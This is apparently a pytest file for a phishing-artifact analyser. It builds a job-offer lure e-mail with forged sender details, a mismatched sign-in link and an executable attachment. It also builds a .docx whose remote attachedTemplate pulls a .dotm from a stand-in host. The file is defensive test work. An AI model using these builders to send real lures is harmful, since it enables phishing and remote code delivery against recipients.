"""``kinship artifact``: phishing e-mails and Office documents, built here from the stdlib.

The .docx is written with zipfile (core.xml metadata, a remote attachedTemplate: T1221); the
.eml with email.message carries it and a compiled netsh fixture PE. No third-party file is
committed. VBA is not covered: oletools cannot write macros and no VBA project can be built
here without Office (see the report of the change).
"""

from __future__ import annotations

import hashlib
import json
import zipfile
from email.message import EmailMessage
from pathlib import Path

import pytest
from click.testing import CliRunner

from kinship.artifacts.analyze import analyze_file, detect_kind
from kinship.artifacts.model import (
    ArtifactResult,
    Attribution,
    MacroFinding,
    MacroModule,
    OfficeInfo,
    Relationship,
    Technique,
)
from kinship.cli import main, register
from kinship.exceptions import EXIT_CODES

if "artifact" not in main.commands:  # until cli.py calls register(main) itself
    register(main)

TEMPLATE_URL = "http://templates.offer-cdn-jobs.com/t/offer.dotm"
LURE_HREF = "http://login-verify-portal.net/session"
APPLY_URL = "https://careers-apply-portal.net/apply?id=7731"

CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml"
 ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>"""
CORE = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<cp:coreProperties
 xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<dc:title>Job offer</dc:title><dc:creator>Recruiter One</dc:creator>
<cp:lastModifiedBy>Operator Two</cp:lastModifiedBy>
<dcterms:created xsi:type="dcterms:W3CDTF">2023-03-01T09:00:00Z</dcterms:created>
<dcterms:modified xsi:type="dcterms:W3CDTF">2023-03-02T10:30:00Z</dcterms:modified>
</cp:coreProperties>"""
APP = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">
<Application>Microsoft Office Word</Application><Company>Aerospace Careers Ltd</Company>
</Properties>"""
SETTINGS_RELS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="{TEMPLATE_URL}" TargetMode="External"/>
</Relationships>"""
DOCUMENT = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>Senior engineer position. Salary details enclosed.</w:t></w:r></w:p>
</w:body></w:document>"""


def make_docx(path: Path) -> bytes:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("docProps/core.xml", CORE)
        zf.writestr("docProps/app.xml", APP)
        zf.writestr("word/document.xml", DOCUMENT)
        zf.writestr("word/settings.xml", "<w:settings xmlns:w='urn:x'/>")
        zf.writestr("word/_rels/settings.xml.rels", SETTINGS_RELS)
    return path.read_bytes()


def make_eml(path: Path, docx: bytes, pe: bytes) -> bytes:
    msg = EmailMessage()
    msg["Received"] = ("from mail.offer-cdn-jobs.com (mail.offer-cdn-jobs.com [185.234.72.19]) "
                       "by mx.victim.example.org; Wed, 01 Mar 2023 10:00:00 +0000")
    msg["Received"] = ("from [10.1.2.3] by mail.offer-cdn-jobs.com; "
                       "Wed, 01 Mar 2023 09:59:58 +0000")
    msg["Authentication-Results"] = ("mx.victim.example.org; spf=fail smtp.mailfrom=x; "
                                     "dkim=none; dmarc=fail header.from=aerocareers.com")
    msg["From"] = "HR Team <hr@aerocareers.com>"
    msg["Reply-To"] = "recruiter@offer-cdn-jobs.com"
    msg["Return-Path"] = "<bounce@offer-cdn-jobs.com>"
    msg["To"] = "engineer@victim.example.org"
    msg["Subject"] = "Job offer: senior engineer"
    msg["Date"] = "Wed, 01 Mar 2023 10:00:00 +0000"
    msg["Message-ID"] = "<1234.5678@offer-cdn-jobs.com>"
    msg["X-Mailer"] = "PHPMailer 6.1.4"
    msg.set_content(f"Dear candidate,\nplease apply at {APPLY_URL} before Friday.\n")
    msg.add_alternative(f'<html><body><p>Sign in at <a href="{LURE_HREF}">'
                        "https://www.linkedin.com/jobs</a></p></body></html>", subtype="html")
    msg.add_attachment(docx, maintype="application",
                       subtype="vnd.openxmlformats-officedocument.wordprocessingml.document",
                       filename="Job_Offer.docx")
    msg.add_attachment(pe, maintype="application", subtype="octet-stream",
                       filename="salary_calc.exe")
    data = msg.as_bytes()
    path.write_bytes(data)
    return data


@pytest.fixture
def lure(tmp_path: Path, bins: dict[str, Path]) -> dict[str, Path | bytes]:
    docx = make_docx(tmp_path / "Job_Offer.docx")
    pe = bins["netsh_x64.exe"].read_bytes()
    eml = tmp_path / "offer.eml"
    make_eml(eml, docx, pe)
    return {"eml": eml, "docx_path": tmp_path / "Job_Offer.docx", "docx": docx, "pe": pe}


def run(*args: str | Path) -> tuple[int, str]:
    r = CliRunner(env={"COLUMNS": "200"}).invoke(main, [str(a) for a in args],
                                                 catch_exceptions=False)
    return r.exit_code, r.output


def _child(doc: dict, name: str) -> dict:
    return next(c for c in doc["children"] if c["name"] == name)


def assert_roundtrips(res: ArtifactResult) -> None:
    """STYLE §5: JSON comes back to an equal object (and to the same JSON)."""
    doc = json.loads(json.dumps(res.to_dict()))
    assert doc == res.to_dict()  # to_dict is JSON types only
    back = ArtifactResult.from_dict(doc)
    assert back == res
    assert back.to_dict() == doc


def test_help_has_examples() -> None:
    code, out = run("artifact", "--help")
    assert code == 0 and "Example" in out and "--json" in out and "--db" in out


def test_email_headers_links_attachments_and_techniques(
        tmp_home: Path, lure: dict[str, Path | bytes]) -> None:
    code, out = run("artifact", lure["eml"], "--json")
    assert code == 0, out
    doc = json.loads(out)["artifacts"][0]
    mail = doc["email"]
    assert doc["kind"] == "email"
    assert ("Reply-To domain offer-cdn-jobs.com differs from From domain aerocareers.com"
            in mail["mismatches"])
    assert any(m.startswith("Return-Path domain offer-cdn-jobs.com") for m in mail["mismatches"])
    assert mail["message_id_domain"] == "offer-cdn-jobs.com"
    assert mail["auth"] == {"spf": "fail", "dkim": "none", "dmarc": "fail"}
    assert mail["received"][0]["ips"] == ["185.234.72.19"]
    assert mail["received"][0]["by_host"] == "mx.victim.example.org"
    assert mail["x_mailer"] == "PHPMailer 6.1.4"
    links = {lk["url"]: lk for lk in mail["links"]}
    assert APPLY_URL in links and not links[APPLY_URL]["mismatch"]
    assert links[LURE_HREF]["mismatch"] and "www.linkedin.com" in links[LURE_HREF]["text"]
    # attachments: hashes equal hashlib's
    docx, pe = _child(doc, "Job_Offer.docx"), _child(doc, "salary_calc.exe")
    assert docx["sha256"] == hashlib.sha256(lure["docx"]).hexdigest()  # type: ignore[arg-type]
    assert docx["md5"] == hashlib.md5(lure["docx"]).hexdigest()  # type: ignore[arg-type]
    assert pe["sha256"] == hashlib.sha256(lure["pe"]).hexdigest()  # type: ignore[arg-type]
    assert pe["size"] == len(lure["pe"]) and pe["kind"] == "pe"  # type: ignore[arg-type]
    # the document
    meta = docx["office"]["metadata"]
    assert meta["author"] == "Recruiter One" and meta["last_modified_by"] == "Operator Two"
    assert meta["company"] == "Aerospace Careers Ltd" and meta["created"].startswith("2023-03-01")
    rel = docx["office"]["external_relationships"][0]
    assert rel == {"part": "word/_rels/settings.xml.rels", "kind": "attachedTemplate",
                   "target": TEMPLATE_URL}
    # IOCs with their location
    urls = {i["value"]: i for i in doc["iocs"] if i["type"] == "url"}
    assert APPLY_URL in urls
    assert urls[APPLY_URL]["sources"][0]["sample"] == "body:text/plain"
    tpl = [i for i in docx["iocs"] if i["type"] == "url" and i["value"] == TEMPLATE_URL]
    assert tpl and tpl[0]["sources"][0]["sample"] == "rels:word/_rels/settings.xml.rels"
    # ATT&CK with evidence
    techniques = {t["id"]: t for t in json.loads(out)["techniques"]}
    assert any(TEMPLATE_URL in e for e in techniques["T1221"]["evidence"])
    t1566 = techniques["T1566.001"]["evidence"]
    assert any("Job_Offer.docx (ooxml" in e for e in t1566)
    assert any("salary_calc.exe (pe" in e for e in t1566)
    assert any(LURE_HREF in e for e in techniques["T1566.002"]["evidence"])
    assert "T1204.002" not in techniques  # no macros
    # no store: attribution skipped and said so
    assert pe["attribution"]["status"] == "skipped"
    assert "no store" in pe["attribution"]["reason"]
    assert ArtifactResult.from_dict(doc).to_dict() == doc


def test_email_result_roundtrips(tmp_home: Path, lure: dict[str, Path | bytes]) -> None:
    res = analyze_file(Path(lure["eml"]))  # type: ignore[arg-type]
    assert res.email is not None and res.email.received and res.email.links
    assert {c.kind for c in res.children} == {"ooxml", "pe"} and res.iocs and res.techniques
    assert_roundtrips(res)


def test_roundtrip_covers_macros_and_matched_attribution() -> None:
    office = OfficeInfo("ole", {"author": "x"}, True,
                        [MacroModule("ThisDocument.cls", "Macros/VBA/ThisDocument", 120,
                                     "ab" * 32)],
                        [MacroFinding("AutoExec", "AutoOpen", "Runs when the document opens")],
                        [Relationship("word/_rels/settings.xml.rels", "attachedTemplate",
                                      TEMPLATE_URL)])
    pe = ArtifactResult("a.exe", "pe", "ole package", 10, "0" * 64, "1" * 32,
                        attribution=Attribution("matched", "", "netshdoor", "APT-X", 0.875, 0.5),
                        techniques=[Technique("T1204.002", "Malicious File", ("a", "b"))])
    assert_roundtrips(ArtifactResult("d.doc", "ole", "file", 99, "2" * 64, "3" * 32,
                                     content_type="application/msword", office=office,
                                     children=[pe], warnings=["w"]))


def test_text_view(tmp_home: Path, lure: dict[str, Path | bytes]) -> None:
    code, out = run("artifact", lure["eml"])
    assert code == 0, out
    assert "T1221 Template Injection" in out and "attachedTemplate" in out
    assert "attribution skipped" in out


def test_pe_attributed_with_store(tmp_home: Path, bins: dict[str, Path],
                                  lure: dict[str, Path | bytes]) -> None:
    code, out = run("add", bins["netsh_x86.exe"], "--family", "netshdoor")
    assert code == 0, out
    code, out = run("artifact", lure["eml"], "--json")
    assert code == 0, out
    doc = json.loads(out)["artifacts"][0]
    att = _child(doc, "salary_calc.exe")["attribution"]
    assert att["status"] == "matched" and att["family"] == "netshdoor"
    assert ArtifactResult.from_dict(doc).to_dict() == doc


def test_empty_store_skips(tmp_path: Path, tmp_home: Path,
                           lure: dict[str, Path | bytes]) -> None:
    db = tmp_path / "empty.db"
    assert run("db", "stats", "--db", db)[0] == 0  # creates the empty store
    code, out = run("artifact", lure["docx_path"], lure["eml"], "--db", db, "--json")
    assert code == 0, out
    doc = json.loads(out)["artifacts"]
    assert doc[0]["kind"] == "ooxml"
    att = _child(doc[1], "salary_calc.exe")["attribution"]
    assert att["status"] == "skipped" and "empty" in att["reason"]


@pytest.mark.parametrize("kind", ["garbage_eml", "truncated_eml", "truncated_docx",
                                  "garbage_doc"])
def test_bad_file_one_line_error(tmp_path: Path, tmp_home: Path,
                                 lure: dict[str, Path | bytes], kind: str) -> None:
    bad = tmp_path / f"bad.{kind.rpartition('_')[2]}"
    if kind == "garbage_doc":  # OLE magic, then nothing an OLE reader can use
        bad.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)
    elif kind == "garbage_eml":
        bad.write_bytes(b"\x00\x01\x02 this is not mail \xff" * 50)
    elif kind == "truncated_eml":
        raw = Path(lure["eml"]).read_bytes()  # type: ignore[arg-type]
        bad.write_bytes(raw[: len(raw) // 2])
    else:
        raw = bytes(lure["docx"])  # type: ignore[arg-type]
        bad.write_bytes(raw[: len(raw) // 2])
    r = CliRunner().invoke(main, ["artifact", str(bad)])
    assert r.exit_code == EXIT_CODES["bad_input"], r.output
    lines = [ln for ln in r.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and str(bad) in lines[0] and "error" in lines[0]
    # in a batch the bad file is recorded and the rest completes
    code, out = run("artifact", bad, lure["eml"], "--json")
    assert code == EXIT_CODES["partial_batch"]
    doc = json.loads(out)
    assert [d["path"] for d in doc["failed"]] == [str(bad)]
    assert [a["name"] for a in doc["artifacts"]] == [str(lure["eml"])]


def test_corrupt_attachment_is_recorded_not_fatal(tmp_path: Path, tmp_home: Path,
                                                  lure: dict[str, Path | bytes]) -> None:
    docx = bytes(lure["docx"])  # type: ignore[arg-type]
    eml = tmp_path / "broken-attachment.eml"
    make_eml(eml, docx[: len(docx) // 2], b"MZ" + b"\x00" * 10)
    res = analyze_file(eml)
    by_name = {c.name: c for c in res.children}
    assert by_name["Job_Offer.docx"].error is not None
    assert by_name["salary_calc.exe"].attribution is not None
    assert res.to_dict()["children"][0]["error"]
    assert_roundtrips(res)


def test_nested_eml_and_zip_with_password(tmp_path: Path, tmp_home: Path,
                                          lure: dict[str, Path | bytes]) -> None:
    import pyzipper

    archive = tmp_path / "offer.zip"
    with pyzipper.AESZipFile(archive, "w", compression=pyzipper.ZIP_DEFLATED,
                             encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(b"infected")
        zf.writestr("Job_Offer.docx", bytes(lure["docx"]))  # type: ignore[arg-type]
    outer = EmailMessage()
    outer["From"], outer["To"], outer["Subject"] = "a@b-mail.net", "c@d.org", "Fwd: offer"
    outer["Date"] = "Thu, 02 Mar 2023 10:00:00 +0000"
    outer.set_content("see attached")
    outer.add_attachment(archive.read_bytes(), maintype="application", subtype="zip",
                         filename="offer.zip")
    inner = EmailMessage()
    inner.set_content("original")
    for k, v in (("From", "x@y.net"), ("Subject", "orig"), ("Date", outer["Date"])):
        inner[k] = v
    outer.add_attachment(inner)
    path = tmp_path / "fwd.eml"
    path.write_bytes(outer.as_bytes())
    res = analyze_file(path)
    kinds = {c.kind for c in res.children}
    assert {"zip", "email"} <= kinds
    zipped = next(c for c in res.children if c.kind == "zip")
    assert zipped.children[0].kind == "ooxml"
    assert "T1221" in {t.id for t in res.all_techniques()}
    assert_roundtrips(res)


def test_detect_kind() -> None:
    assert detect_kind(b"MZ\x90\x00", "x.bin") == "pe"
    assert detect_kind(b"\x7fELF", "x") == "elf"
    assert detect_kind(b"From: a@b.c\nSubject: x\n\nhi", "mail.txt") == "email"
    assert detect_kind(b"hello", "x.txt") == "other"


def test_limits_oversize_depth_and_members(tmp_path: Path, tmp_home: Path,
                                           lure: dict[str, Path | bytes],
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """Each named limit is enforced (lowered here so that a small artifact reaches it)."""
    from kinship.artifacts import limits
    from kinship.exceptions import FileTooLargeError

    eml = Path(lure["eml"])  # type: ignore[arg-type]
    # MAX_DEPTH: the attachments of a mail are one level down; at 0 none is analysed
    monkeypatch.setattr(limits, "MAX_DEPTH", 0)
    res = analyze_file(eml)
    assert any("MAX_DEPTH" in w for w in res.warnings)
    assert all(c.kind == "other" or not c.children for c in res.children)
    monkeypatch.undo()
    # MAX_OOXML_MEMBERS: the lure docx has 6 members
    monkeypatch.setattr(limits, "MAX_OOXML_MEMBERS", 3)
    with pytest.raises(FileTooLargeError, match="MAX_OOXML_MEMBERS"):
        analyze_file(Path(lure["docx_path"]))  # type: ignore[arg-type]
    monkeypatch.undo()
    # MAX_ARTIFACT_SIZE: one-line error through the CLI, non-zero exit
    monkeypatch.setattr(limits, "MAX_ARTIFACT_SIZE", 1024)
    r = CliRunner().invoke(main, ["artifact", str(eml)])
    assert r.exit_code != 0
    lines = [ln for ln in r.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and str(eml) in lines[0] and "MAX_ARTIFACT_SIZE" in lines[0]
